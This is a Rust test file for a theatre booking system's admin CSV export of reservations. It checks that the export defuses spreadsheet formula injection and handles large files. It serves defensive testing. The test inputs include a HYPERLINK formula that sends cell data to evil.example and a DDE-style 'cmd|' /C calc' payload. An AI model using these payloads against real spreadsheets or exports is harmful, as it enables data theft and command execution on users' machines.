//! Reservations as CSV.

use foh_testkit::{both_engines, engines::Engine};

use crate::{
    playhouse::{Playhouse, Role},
    staff::{done, staff},
};

both_engines! {
    async fn a_spreadsheet_gets_text_and_no_formulas(engine: Engine) {
        let theatre = Playhouse::open(engine).await;
        let office = staff(&theatre, Role::BoxOffice).await;
        let (tomorrow, later) = (theatre.tomorrow.to_string(), theatre.later.to_string());
        let formula = "=HYPERLINK(\"http://evil.example?\"&A1;\"Ada\")";
        for (performance, name, notes) in [
            (&tomorrow, formula, "@SUM(1),\n\"quoted\""),
            (&tomorrow, "-2+3+cmd|' /C calc'!A0", "+1"),
            (&later, "Mihály Őszi-Nagy", ""),
        ] {
            let fields = [
                ("performance_id", performance.as_str()),
                ("party_size", "2"),
                ("name", name),
                ("email", "ada@example.org"),
                ("phone", "+39 06 1234567"),
                ("notes", notes),
            ];
            done(&office, "/admin/reservations", &fields).await;
        }
        let page = office.get("/admin/reservations").await;
        let links = page.links("/admin/reservations.csv");
        assert_eq!(links, ["/admin/reservations.csv"]);
        let file = office.get(&links[0]).await;
        assert_eq!(file.status, 200);
        assert!(file.header("content-type").starts_with("text/csv; charset=utf-8"));
        assert_eq!(file.header("content-disposition"), "attachment; filename=\"reservations-all-3.csv\"");
        assert_eq!((file.header("cache-control"), file.header("x-content-type-options")), ("no-store", "nosniff"));
        let mut reader = csv::Reader::from_reader(file.body.as_bytes());
        let head = reader.headers().unwrap().clone();
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        let column = |name: &str| {
            let at = head.iter().position(|head| head == name).unwrap();
            rows.iter().map(|row| row[at].to_owned()).collect::<Vec<_>>()
        };
        // The newest first, as in the list.
        assert_eq!(column("name"), ["Mihály Őszi-Nagy", "'-2+3+cmd|' /C calc'!A0", &format!("'{formula}")]);
        assert_eq!(column("notes"), ["", "'+1", "'@SUM(1),\n\"quoted\""]);
        assert_eq!(column("phone")[0], "'+39061234567");
        assert_eq!(column("email")[0], "ada@example.org");
        assert_eq!(column("starts_at"), ["2026-12-04T20:00:00+01:00", "2026-11-28T20:00:00+01:00", "2026-11-28T20:00:00+01:00"]);
        assert_eq!(column("status")[0], "pending");
        let begins_formula = |cell: &str| cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
        assert!(rows.iter().flatten().all(|cell| !begins_formula(cell)));

        // The same filters as the list, and the same refusals.
        let filtered = office.get(&format!("/admin/reservations?performance_id={later}")).await;
        let link = filtered.links("/admin/reservations.csv").remove(0);
        let file = office.get(&link).await;
        assert_eq!(csv::Reader::from_reader(file.body.as_bytes()).records().count(), 1);
        let named = office.get(&format!("/admin/reservations.csv?q=hyperlink&performance_id={tomorrow}")).await;
        assert_eq!(csv::Reader::from_reader(named.body.as_bytes()).records().count(), 1);
        let none = office.get("/admin/reservations.csv?status=cancelled").await;
        assert_eq!(none.body.lines().count(), 1, "only the names of the columns");
        assert_eq!(office.get("/admin/reservations.csv?q=hyperlink").await.status, 422);
        assert_eq!(office.get("/admin/reservations.csv?status=lost").await.status, 400);
    }

    async fn a_long_file_is_read_in_pieces(engine: Engine) {
        let theatre = Playhouse::open(engine).await;
        let office = staff(&theatre, Role::BoxOffice).await;
        let mut wishes = tokio::task::JoinSet::new();
        for number in 0..1_001 {
            let (house, performance) = (theatre.house.clone(), theatre.later);
            wishes.spawn(async move {
                let fields = foh_domain::booking::GuestFields {
                    name: &format!("Guest {number}"),
                    email: "guest@example.org",
                    phone: None,
                    notes: None,
                };
                let guest = foh_domain::booking::Guest::parse(fields).unwrap();
                let party = foh_domain::booking::PartySize::parse(1).unwrap();
                house.reserve(performance, &guest, party, None).await.unwrap();
            });
        }
        wishes.join_all().await;
        let file = office.get("/admin/reservations.csv").await;
        let mut reader = csv::Reader::from_reader(file.body.as_bytes());
        let names: std::collections::HashSet<String> = reader.records().map(|row| row.unwrap()[9].to_owned()).collect();
        assert_eq!(names.len(), 1_001);
        assert!(file.header("content-disposition").contains("reservations-all-1001.csv"));
    }
}
